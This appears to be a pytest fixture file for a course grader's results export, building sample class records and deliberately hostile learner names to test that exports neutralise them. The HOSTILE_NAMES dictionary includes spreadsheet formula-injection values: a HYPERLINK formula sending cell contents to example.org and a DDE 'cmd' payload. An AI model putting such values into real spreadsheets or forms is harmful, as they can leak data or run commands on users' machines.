"""A small class with difficult names, as `kata grade-class` leaves it, and a way to export it."""

from __future__ import annotations

import math
import os
import shutil
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest

from grader.classroom.members import CLASS_LIST, as_lines
from grader.classroom.members import ListedLearner as Learner
from grader.course import Course, Exercise, Unit
from grader.formats.export import write_export
from grader.formats.results_table import ExportOptions, ResultsTable
from grader.record import (
    Adjustment,
    CheckResult,
    CourseStamp,
    Diagnosis,
    ExerciseResult,
    Outcome,
    Problem,
    Record,
    Status,
)

STAMP = CourseStamp(title="Attention Kata", version="0.1.0")
WHEN = 1_790_000_000
"""Seconds since 1970 at which every class of these tests was graded."""

TITLES = {"softmax": "Softmax by hand", "causal_mask": "Causal mask", "kv_cache": "A cache, kept"}
UNITS = [
    ("01_soft_lookup", "1. Soft lookup", ["softmax"]),
    ("03_masks", "3. Masks; dropout", ["causal_mask", "kv_cache"]),
]

HOSTILE_NAMES = {
    "comma": "Lovelace, Ada",
    "quote": 'Ana "Ann" O\'Neill',
    "newline": "two\nlines\r\nhere",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"me")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "full-width": "\uff1d1+1",
    "leading-blank": " =1+1",
    "emoji": "Zoë 🦊 林美玲",
    "right-to-left": "\u202eadA",
    "points-possible": "Points Possible",
    "control": "bell\x07",
}


def check(name: str, points: float, worth: float, outcome: Outcome | None = None, message: str = "") -> CheckResult:
    outcome = outcome or ("passed" if points else "failed")
    return CheckResult(
        name=name,
        title=f"It does what {name} asks.",
        outcome=outcome,
        points=points,
        max_points=worth,
        visible=name == "test_example",
        message=message if outcome != "passed" else "",
    )


def exercise(
    id: str, points: float = 4.0, status: Status | None = None, message: str = "The rows differ."
) -> ExerciseResult:
    """An exercise of 4 points with two checks, one of them for 1 point; without checks where nothing was checked."""
    status = status or ("passed" if points == 4 else "failed")
    checks = [check("test_example", min(points, 1.0), 1.0, message=message)]
    checks.append(check("test_rows", max(points - 1, 0.0), 3.0, message=message))
    return ExerciseResult(
        id=id,
        status=status,
        points=points if status in ("passed", "failed") else 0.0,
        max_points=4.0,
        checks=tuple(checks) if status in ("passed", "failed") else (),
        diagnosis=(Diagnosis(mistake="whole-sum", message="You divided by one sum."),) if status == "failed" else (),
        seconds=0.25,
    )


def record(name: str, *exercises: ExerciseResult, problems: Iterable[Problem] = ()) -> Record:
    whole = exercises or (exercise("softmax"), exercise("causal_mask", 1.0), exercise("kv_cache", 0, "missing"))
    return Record.of(submission=name, isolation="full", seed=7, course=STAMP, exercises=whole, problems=tuple(problems))


BROKEN_CHECK = check("test_rows", 0, 3.0, "error", "ZeroDivisionError in the hidden check")
BROKEN = exercise("causal_mask").model_copy(
    update={"status": "error", "points": 1.0, "checks": (check("test_example", 1.0, 1.0), BROKEN_CHECK)}
)
"""An exercise at which the grader itself failed, after one check that passed."""


def not_graded(name: str) -> Record:
    return record(name, exercise("softmax"), BROKEN, exercise("kv_cache", 0, "missing"))


def adjusted(name: str, *uncounted: str) -> Record:
    """The usual record of 5 of 12 points after a policy, without these exercises."""
    parts = [
        each.model_copy(
            update={
                "final_points": 0.0 if each.id in uncounted else each.points,
                "final_max_points": 0.0 if each.id in uncounted else each.max_points,
                "uncounted": each.id in uncounted,
            }
        )
        for each in record(name).exercises
    ]
    less = math.fsum(each.points for each in parts if each.uncounted)
    return Record(
        **{
            **dict(record(name)),
            "exercises": tuple(parts),
            "final_points": math.fsum(each.counted_points for each in parts),
            "final_max_points": math.fsum(each.counted_max_points for each in parts),
            "adjustments": (Adjustment(unit="1", points=-less, reason="It is exempt."),),
        }
    )


@pytest.fixture
def class_of(tmp_path: Path) -> Callable[..., Path]:
    """Writes a class into a folder as `kata grade-class` does."""

    def write(*records: Record, learners: Iterable[Learner] = ()) -> Path:
        out = tmp_path / "out"
        out.mkdir()
        results = out / "results.jsonl"
        results.write_bytes(b"".join(f"{each.to_json()}\n".encode() for each in records))
        if listed := list(learners):
            (out / CLASS_LIST).write_bytes(b"".join(as_lines(listed)))
        os.utime(results, (WHEN, WHEN))
        return out

    return write


@pytest.fixture
def said() -> list[str]:
    """What an export told whoever exported."""
    return []


def course_of(titles: Mapping[str, str] = TITLES) -> Course:
    """A course with the exercises of these tests."""

    units = []
    for folder, title, ids in UNITS:
        exercises = [Exercise.model_construct(id=id, unit=folder, title=titles.get(id, id), points=4.0) for id in ids]
        units.append(Unit.model_construct(folder=folder, title=title, exercises=tuple(exercises)))
    return Course.model_construct(units=tuple(units))


@pytest.fixture
def table(said: list[str]) -> Callable[..., ResultsTable]:
    """The table of a class, with these options."""

    def table_of(out: Path, titles: Mapping[str, str] = TITLES, **options: Any) -> ResultsTable:
        return ResultsTable(out, ExportOptions(**{"course": course_of(titles), "say": said.append, **options}))

    return table_of


@pytest.fixture
def exported(table: Callable[..., ResultsTable], tmp_path: Path) -> Callable[..., dict[str, str]]:
    """The files of a format by their names."""

    def export(out: Path, format: str, **options: Any) -> dict[str, str]:
        to = tmp_path / "exported"
        shutil.rmtree(to, ignore_errors=True)
        to.mkdir()
        write_export(table(out, **options), format, to)
        return {path.name: path.read_bytes().decode() for path in sorted(to.iterdir())}

    return export
